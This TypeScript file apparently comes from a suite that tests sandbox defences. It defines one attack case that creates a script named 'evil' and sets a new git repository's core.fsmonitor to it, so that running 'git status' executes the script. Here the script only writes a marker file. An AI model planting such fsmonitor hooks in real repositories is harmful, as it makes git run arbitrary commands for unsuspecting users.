import { type Attack, sh } from '../attack.js'
import { sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/initialise',
  tries: 'to make a repository where there was none',
  source: 'srt 4B.1, 5; CVE-2026-25725',
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
git init -q "$W" && git -C "$W" config core.fsmonitor "$S/evil"`,
  succeeded: sprung('w', 'status'),
  control: 'plain',
}
